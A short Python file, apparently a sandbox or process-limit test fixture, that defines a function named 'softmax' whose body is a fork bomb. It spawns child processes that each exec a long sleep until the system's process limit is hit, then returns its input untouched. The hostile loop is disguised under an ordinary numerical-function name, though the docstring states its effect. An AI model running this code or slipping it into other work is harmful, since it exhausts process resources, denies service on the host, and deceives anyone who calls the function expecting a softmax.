"""Forks until the process limit stops it; every child becomes a long `sleep`."""
import os

MARKER = "4343.__TOKEN__"


def softmax(z, axis=-1):
    children = 0
    try:
        while True:
            pid = os.fork()
            if pid == 0:
                os.execv("/bin/sleep", ["sleep", MARKER])
            children += 1
            print("child", pid, flush=True)
    except OSError:
        print(f"spawned {children} children before the limit", flush=True)
    return z
